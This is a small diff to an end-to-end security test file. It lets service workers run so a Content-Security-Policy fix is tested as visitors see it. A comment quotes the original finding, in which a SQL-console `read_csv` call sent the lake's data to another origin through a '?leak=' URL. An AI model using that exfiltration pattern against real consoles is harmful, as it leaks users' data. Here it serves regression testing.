@@ -2,6 +2,9 @@ import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { engineReady, expect, test } from './fixtures';
 
+// Served through the app's service worker, as a visitor gets it (the e2e default blocks it).
+test.use({ serviceWorkers: 'allow' });
+
 /**
  * Finding 5: there was no Content-Security-Policy, and the SQL console's
  * `read_csv('http://127.0.0.1:8765/x.csv?leak=' || …)` sent the lake's data to another origin.
